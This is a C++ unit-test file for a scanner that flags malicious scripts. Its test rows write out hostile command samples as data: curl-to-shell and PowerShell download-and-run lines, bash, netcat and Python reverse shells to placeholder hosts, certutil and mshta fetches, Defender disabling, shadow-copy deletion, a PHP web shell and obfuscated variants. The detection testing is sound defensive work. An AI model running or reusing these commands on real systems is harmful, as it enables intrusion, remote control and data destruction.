#include <gtest/gtest.h>

#include "core/base64.h"
#include "tests/inspect/signs/remarks.h"

// What the rows run would fetch from names that do not exist (RFC 2606) or do nothing at all.
namespace weir {
namespace {

struct Row {
  const char* name;
  std::string text;
  Names want;
};

void expect_signs(const std::vector<Row>& rows) {
  for (const Row& row : rows) {
    EXPECT_EQ(weighty(examined(examine_script, row.text, row.name)), row.want)
        << row.name << ": " << row.text.substr(0, 80);
  }
}

TEST(ScriptSigns, Unix) {
  expect_signs({
      {"a.sh", "#!/bin/sh\necho hello\nexit 0\n", {}},
      {"a.sh", "#!/bin/sh\ncurl -fsSL https://a.test/i | sh\n", {"shell-pipe-to-shell"}},
      {"a.sh", "#!/bin/sh\ncurl https://a.test/i | sha256sum\n", {}},
      {"a.sh", "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", {"reverse-shell"}},
      {"a.sh", "#!/bin/bash\nexec 3<>/dev/tcp/localhost/80\n", {}},
      {"a.sh", "#!/bin/sh\nnc 192.0.2.1 99 -e /bin/sh\n", {"reverse-shell"}},
      {"a.sh", "#!/bin/sh\necho ZWNobyBoaQo= | base64 -d | sh\n", {"shell-decode-run"}},
      {"a.sh", "#!/bin/sh\nbase64 -d key.txt > key\n", {}},
      {"a.sh", "#!/bin/sh\nunset HISTFILE\n", {"shell-covers-traces"}},
      {"a.sh",
       "#!/bin/sh\nwget http://192.0.2.7/m -O /tmp/m; chmod 777 /tmp/m; /tmp/m; rm -rf /tmp/m\n",
       {"shell-drop-run"}},
      {"a.py",
       "import os\nimport socket,pty\ns=socket.socket()\ns.connect(('192.0.2.1',9))\n"
       "os.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n",
       {"reverse-shell"}},
      {"a.py",
       "import os\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
       {"py-exec-decoded"}},
      {"a.py", "import os\nimport socket\ns=socket.socket()\ns.connect(('192.0.2.1',9))\n", {}},
      {"a.pl", "#!/usr/bin/perl\neval unpack u=>q{x};\n", {"perl-eval-packed"}},
  });
}

TEST(ScriptSigns, Windows) {
  expect_signs({
      {"a.ps1", "Get-ChildItem | Sort-Object Name\n", {}},
      {"a.ps1",
       "IEX (New-Object Net.WebClient).DownloadString('http://a.test/b')\n",
       {"ps-download-run"}},
      {"a.ps1",
       "i`E`x (New-Object Net.WebClient).('Down'+'load'+'String').Invoke('http://a.test')\n",
       {}},
      {"a.ps1",
       "i`E`x (New-Object Net.WebClient).Down`load`String('http://a.test')\n",
       {"ps-download-run"}},
      {"a.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true\n", {"disables-defender"}},
      {"a.bat",
       "@echo off\r\ncertutil.exe -urlcache -f http://a.test/x x.exe\r\n",
       {"certutil-download"}},
      {"a.bat",
       "@echo off\r\nc^er^tut^il -url^cache -f http://a.test/x x.exe\r\n",
       {"certutil-download"}},
      {"a.bat", "@echo off\r\nstart mshta http://a.test/x\r\n", {"mshta-remote"}},
      {"a.bat", "@echo off\r\nvssadmin delete shadows /all /quiet\r\n", {"deletes-backups"}},
      {"a.bat", "@echo off\r\ndir /s\r\npause\r\n", {}},
      {"a.vbs", "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"notepad\"\r\n", {"wsh-shell"}},
      {"a.vbs",
       "Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\nh.Open \"GET\", \"http://a.test\"\r\n"
       "Set a = CreateObject(\"ADODB.Stream\")\r\na.SaveToFile \"x\"\r\n"
       "CreateObject(\"WScript.Shell\").Run \"x\"\r\n",
       {"wsh-download-run", "wsh-shell"}},
      {"a.js", "var o = new ActiveXObject('WScript.Shell');", {"wsh-shell"}},
      {"a.hta",
       "<html><hta:application id=x><script>new ActiveXObject('WScript.Shell')</script>",
       {"hta-application", "hta-runs", "wsh-shell"}},
  });
}

TEST(ScriptSigns, Web) {
  expect_signs({
      {"a.php", "<?php eval($_POST['x']); ?>", {"web-shell"}},
      {"a.php", "<?php $x = htmlspecialchars($_POST['x']); system('ls'); ?>", {}},
      {"a.php", "<?php @eval(gzinflate(base64_decode('x'))); ?>", {"php-eval-decoded"}},
      {"a.js", "function(){eval(unescape('x'))}", {"js-eval-decoded"}},
      {"a.js", "function(){return atob(x)}", {}},
      {"a.js", "module.exports = {words: 'Invoke-Expression Invoke-WebRequest IEX'}", {}},
  });
}

TEST(ScriptSigns, DisguisedWordsAreStillRead) {
  const std::string vbs =
      "x = chr(87) & chr(83) & \"cript\" & _\r\n  \".Sh\" & \"ell\"\r\n"
      "Set s = CreateObject(x)\r\n";
  EXPECT_EQ(weighty(examined(examine_script, vbs, "a.vbs")), Names{"wsh-shell"});
  std::string chain = "Execute \"\"";
  for (const char c : std::string("CreateObject(\"WScript.Shell\").Run \"powershell\"")) {
    chain += " & chr(" + std::to_string(static_cast<int>(c)) + ")";
  }
  const Remarks remarks = examined(examine_script, chain, "a.vbs");
  EXPECT_TRUE(remarks.has("character-codes"));
  EXPECT_TRUE(remarks.has("hidden-command"));
  EXPECT_GE(total(remarks), 50U);
  EXPECT_EQ(
      weighty(examined(examine_script, R"(new \x41ctive\u0058Object("WScript.Shell"))", "a.js")),
      Names{"wsh-shell"});
  const std::string codes =
      "var a = new ActiveXObject(String.fromCharCode(87,83,99,114,105,112,116) + '.Shell')";
  EXPECT_EQ(weighty(examined(examine_script, codes, "a.js")), Names{"wsh-shell"});
}

TEST(ScriptSigns, ReadsWideText) {
  const std::string script = "IEX (New-Object Net.WebClient).DownloadString('http://a.test/b')";
  std::string big = "\xfe\xff";
  for (const char c : script) big += std::string(1, '\0') + c;
  for (const std::string& text :
       {script, wide(script), wide(script, false), big, "\xef\xbb\xbf" + script}) {
    EXPECT_EQ(weighty(examined(examine_script, text, "a.ps1")), Names{"ps-download-run"});
  }
}

TEST(ScriptSigns, LooksIntoBase64Once) {
  const std::string inner = "IEX (New-Object Net.WebClient).DownloadString('http://a.test/b')";
  const std::string command =
      "powershell -w hidden -enc " + base64_encode(as_bytes(wide(inner, false)));
  const Remarks remarks = examined(examine_script, "@echo off\r\n" + command + "\r\n", "a.bat");
  EXPECT_EQ(weighty(remarks),
            (Names{"hidden-command", "ps-download-run", "ps-encoded-command", "ps-hidden-window"}));
  const std::string harmless = "Get-ChildItem | Sort-Object Name | Select-Object -First 10";
  const std::string plain = "powershell -enc " + base64_encode(as_bytes(wide(harmless, false)));
  EXPECT_EQ(weighty(examined(examine_script, "@echo off\r\n" + plain, "a.bat")),
            Names{"ps-encoded-command"});
}

TEST(ScriptSigns, QuotingIsNotDoing) {
  const std::string prose =
      "An attacker may run  bash -i >& /dev/tcp/192.0.2.1/4444 0>&1  or "
      "vssadmin delete shadows, or curl http://a.test | sh.";
  const Remarks remarks = examined(examine_script, prose, "README");
  EXPECT_EQ(weighty(remarks), Names{"reverse-shell"});
  EXPECT_LT(total(remarks), 50U);
}

TEST(ScriptSigns, SmuggledFiles) {
  std::string zip("Rar!\x1a\x07\x01\x00", 8);
  zip += std::string(200, 'x');
  const std::string save =
      "var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.download='x';a.click()";
  const std::string page = "<html><script>var d='" + base64_encode(as_bytes(zip)) + "';";
  EXPECT_EQ(weighty(examined(examine_script, page + save + "</script>", "a.html")),
            Names{"html-smuggled-file"});
  EXPECT_EQ(weighty(examined(examine_script, page + "</script>", "a.html")), Names{});
  EXPECT_EQ(weighty(examined(examine_script, "<html><script>var d='';" + save, "a.html")), Names{});
}

TEST(ScriptSigns, AreNotLookedForInBinaryFiles) {
  std::string bytes("\0\1\2\3", 4);
  bytes += " vssadmin delete shadows";
  EXPECT_TRUE(examined(examine_script, bytes, "a.bat").all().empty());
  EXPECT_TRUE(examined(examine_script, "%PDF-1.4 vssadmin delete shadows", "a.bat").all().empty());
  EXPECT_TRUE(examined(examine_script, "", "a.bat").all().empty());
}

TEST(ScriptSigns, SeesTheEndOfALongFile) {
  const std::string command = "\nvssadmin delete shadows\n";
  const std::string padding(3U << 20U, 'x');
  EXPECT_EQ(weighty(examined(examine_script, "@echo off\n" + padding + command, "a.bat")),
            Names{"deletes-backups"});
}

}  // namespace
}  // namespace weir
